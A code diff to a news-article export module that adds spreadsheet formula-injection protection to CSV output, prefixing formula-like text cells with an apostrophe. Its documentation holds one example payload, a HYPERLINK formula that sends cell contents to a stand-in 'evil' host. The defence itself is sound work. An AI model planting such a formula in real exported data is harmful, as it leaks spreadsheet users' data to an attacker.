@@ -8,7 +8,10 @@ included, plus a `date` column); the other tables are one `newsflow query` away.
   export rewrites the date folders it covers and leaves the others, so `--since` refreshes the
   recent days of an earlier export.
 - csv: `DIR/articles.csv`, with a header row. jsonl: `DIR/articles.jsonl`, one object a line.
-  Both are replaced by each export.
+  Both are replaced by each export. In the CSV, a text value a spreadsheet would run as a formula
+  (it begins with `=`, `+`, `-`, `@`, a tab or a CR, and is not a number) gets a leading `'`, as
+  OWASP advises: a title `=HYPERLINK("http://evil/?"&A1, "click")` opened in Excel or LibreOffice
+  would send the sheet's cells away. JSON Lines and Parquet keep every text as it is stored.
 
 `date` is the UTC date of `published_at`, else of `fetched_at`; `since` keeps dates on or after it.
 Timestamps are written in UTC.
@@ -34,6 +37,8 @@ EXPORT_FORMATS: tuple[ExportFormat, ...] = ("parquet", "csv", "jsonl")
 
 _DATE = "CAST(coalesce(published_at, fetched_at) AT TIME ZONE 'UTC' AS DATE)"
 _SELECT = f"SELECT *, {_DATE} AS date FROM articles WHERE $since IS NULL OR {_DATE} >= $since ORDER BY date, article_id"
+# A text cell a spreadsheet reads as a formula: it begins with one of these and is not a number.
+FORMULA_START = r"^[=+\-@\t\r]"
 _OPTIONS: dict[ExportFormat, str] = {
     "parquet": "FORMAT parquet, PARTITION_BY (date), OVERWRITE_OR_IGNORE",
     "csv": "FORMAT csv, HEADER",
@@ -60,13 +65,25 @@ def export_articles(
     with warehouse.reading() as con:
         con.execute("SET TimeZone = 'UTC'")  # session only: timestamps in CSV and JSON are written in UTC
         try:
+            select = _spreadsheet_safe_select(con) if fmt == "csv" else _SELECT
             rows = con.execute(
-                f"COPY ({_SELECT}) TO {_sql_string(target)} ({_OPTIONS[fmt]})", {"since": since}
+                f"COPY ({select}) TO {_sql_string(target)} ({_OPTIONS[fmt]})", {"since": since}
             ).fetchall()
         except duckdb.Error as exc:
             raise OutputError(f"export to {target} failed: {' '.join(str(exc).split())}") from exc
     files = tuple(sorted(target.rglob("*.parquet"))) if fmt == "parquet" else (target,)
     return ExportSummary(fmt, target, int(rows[0][0]) if rows else 0, files)
+
+
+def _spreadsheet_safe_select(con: duckdb.DuckDBPyConnection) -> str:
+    """`_SELECT` with each text column defused: a formula-like value gets a leading `'` (see above)."""
+    names = [row[0] for row in con.execute(
+        "SELECT column_name FROM duckdb_columns() WHERE table_name = 'articles' AND schema_name = 'main' "
+        "AND data_type = 'VARCHAR' ORDER BY column_index").fetchall()]
+    quoted = ['"' + name.replace('"', '""') + '"' for name in names]
+    defused = ", ".join(f"CASE WHEN regexp_matches({q}, '{FORMULA_START}') AND TRY_CAST({q} AS DOUBLE) IS NULL "
+                        f"THEN chr(39) || {q} ELSE {q} END AS {q}" for q in quoted)
+    return _SELECT.replace("SELECT *,", f"SELECT * REPLACE ({defused}),", 1) if names else _SELECT
 
 
 def _prepare_folder(out_dir: Path, target: Path, fmt: ExportFormat) -> None:
